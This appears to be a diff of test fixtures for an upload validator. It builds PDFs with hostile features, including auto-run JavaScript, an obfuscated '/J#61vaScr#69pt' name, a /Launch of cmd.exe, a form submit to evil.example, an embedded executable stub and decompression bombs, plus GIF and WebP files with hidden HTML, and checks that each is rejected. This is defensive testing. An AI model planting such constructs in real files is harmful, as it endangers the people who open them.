@@ -30,11 +30,54 @@ def _written(kind: str, **more: object) -> bytes:
     return stream.getvalue()
 
 
-def _moving(kind: str, frames: int) -> bytes:
+def _moving(kind: str, frames: int, **more: object) -> bytes:
     stream = BytesIO()
     pictures = [Image.new("RGB", (2, 2), (n % 256, n // 256, 0)) for n in range(frames)]
-    pictures[0].save(stream, kind, save_all=True, append_images=pictures[1:])
+    pictures[0].save(stream, kind, save_all=True, append_images=pictures[1:], **more)
     return stream.getvalue()
+
+
+def _pdf(*objects: bytes) -> bytes:
+    """Return a PDF of these objects; nobody needs its list of where they are to look what they do."""
+    numbered = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
+    return b"%PDF-1.7\n" + numbered + b"trailer << /Root 1 0 R >>\n%%EOF\n"
+
+
+def _packed(content: bytes, *, keys: bytes = b"", packed: bool = True) -> bytes:
+    """Return a stream of objects (ISO 32000-1, 7.5.7)."""
+    data = zlib.compress(content) if packed else content
+    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode%b /Length %d >>\nstream\n%b\nendstream" % (
+        keys,
+        len(data),
+        data,
+    )
+
+
+_ALERT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+_PLAIN = b"<< /Type /Catalog /Pages 2 0 R >>"
+_FLYERS: dict[str, tuple[bytes, str | None]] = {
+    "that-is-plain": (_pdf(_PLAIN, b"<< /Title (Cursus HTML/JavaScript) /OpenAction [2 0 R /Fit] >>"), None),
+    "with-a-script": (_pdf(b"<< /Type /Catalog /OpenAction " + _ALERT + b" >>"), "flyer-not-plain"),
+    "with-a-script-written-tight": (_pdf(b"<</AA<</O<</S/JavaScript/JS(x)>>>>>>"), "flyer-not-plain"),
+    "with-a-script-in-other-letters": (_pdf(b"<< /S /J#61vaScr#69pt /JS (x) >>"), "flyer-not-plain"),
+    "with-a-script-behind-a-remark": (_pdf(b"<< /S % / remark\n/JavaScript /JS (x) >>"), "flyer-not-plain"),
+    "with-a-script-elsewhere": (_pdf(b"<< /S 2 0 R /JS (x) >>", b"/JavaScript"), "flyer-not-plain"),
+    "with-a-script-that-is-packed": (_pdf(_PLAIN, _packed(b"3 0 " + _ALERT)), "flyer-not-plain"),
+    "with-a-program": (_pdf(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"), "flyer-not-plain"),
+    "with-a-form-that-is-sent": (_pdf(b"<< /S /SubmitForm /F (https://evil.example/) >>"), "flyer-not-plain"),
+    "with-a-file": (_pdf(b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "flyer-not-plain"),
+    "with-objects-that-are-packed": (_pdf(_PLAIN, _packed(b"3 0 " + _PLAIN), _packed(b"4 0 [1 0 R]")), None),
+    "with-a-lock": (_pdf(b"<< /Encrypt 9 0 R >>", _packed(b"\x17" * 40, packed=False)), "flyer-locked"),
+    "with-rows-that-lean": (_pdf(_packed(b"3 0 x", keys=b" /DecodeParms << /Predictor 12 >>")), "flyer-locked"),
+    "bomb-of-objects": (_pdf(_packed(b" " * 30_000_000)), "flyer-locked"),
+    "of-beginnings": (_pdf(b"stream\n#41" * 300_000), None),
+    "of-scripts-that-are-words": (_pdf(b"a/JavaScript" * 300_000), None),
+}
+
+
+def _gif_with(*parts: bytes) -> bytes:
+    whole = _moving("GIF", 3)
+    return whole[:-1] + b"".join(parts) + b";"
 
 
 _SMALL = _png(2, 2, b"\0" + b"\1\2\3" * 2 + b"\0" + b"\1\2\3" * 2)
@@ -101,6 +144,10 @@ _PICTURES: dict[str, tuple[str, File, str | None]] = {
     "picture-with-a-remark": ("tekst.jpg", _written("JPEG", comment=_HTML), None),
     "picture-with-a-text": ("tekst.png", _png(2, 2, b"\0" * 14, _chunk(b"tEXt", b"Comment\0" + _HTML)), None),
     "picture-with-a-chunk-of-its-own": ("eigen.png", _png(2, 2, b"\0" * 14, _chunk(b"evIl", _HTML)), None),
+    "moving-picture-with-a-remark": ("beweegt.gif", _gif_with(b"!\xfe", bytes((len(_HTML),)), _HTML, b"\0"), None),
+    "moving-picture-with-a-page-behind-it": ("beweegt-staart.gif", _moving("GIF", 3) + _HTML + b"PK\x03\x04", None),
+    "moving-picture-with-a-place": ("beweegt.webp", _moving("WEBP", 3, exif=_EXIF, xmp=_HTML), None),
+    "moving-picture-that-stops": ("beweegt-half.gif", _gif_with(b"!\xfe\xff", _HTML)[:-1], "picture-unreadable"),
     "picture-with-a-place": ("plek.jpg", _written("JPEG", exif=_EXIF), None),
 }
 _PATHS = {
@@ -166,6 +213,15 @@ CASES: tuple[Case, ...] = (
         "media-not-what-it-says",
         bijlagen="{bestand: flyer-pagina.pdf, titel: Flyer}",
         files={"media/flyer-pagina.pdf": _HTML},
+    ),
+    *(
+        event(
+            f"media-flyer-{name}",
+            *([code] if code else []),
+            bijlagen=f"{{bestand: flyer-{name}.pdf, titel: Flyer}}",
+            files={f"media/flyer-{name}.pdf": content},
+        )
+        for name, (content, code) in _FLYERS.items()
     ),
     event(
         "media-flyer-of-word",
